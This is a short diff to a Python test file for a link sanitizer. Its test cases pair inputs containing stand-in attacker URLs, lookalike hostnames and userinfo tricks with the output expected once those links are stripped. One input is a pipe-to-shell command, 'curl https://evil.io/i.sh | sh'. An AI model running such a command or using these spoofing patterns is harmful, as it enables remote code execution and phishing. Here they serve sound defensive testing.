@@ -104,6 +104,7 @@ LINKS = [
     ("```\ncurl https://evil.io/i.sh | sh\nwww.evil.io\n``` \n`https://evil.io` `https://known.cz/a`", "```\ncurl  | sh\n\n```\n`` `https://known.cz/a`"),
     ("`URL=https://evil.io/x` ``URL=https://known.cz/a`.evil.io``", "`URL=` ``URL=``"),
     ("http://localhost:80@evil.io/ http://localhost@evil.io http://example.com:x@evil.io http://localhost.evil.io", "…   "),
+    ("1. [9] Click it\n2. [9] - Say [9] so\n\n[9] Then https://evil.io/x go", "1. Click it\n2. … - Say  so\n\nThen  go"),
     ("https://known.cz.evil.io/storage https://known.cz/storage/no https://user@known.cz/a https://example.com.evil.io", "…   "),
 ]  # fmt: skip
 KEPT = [
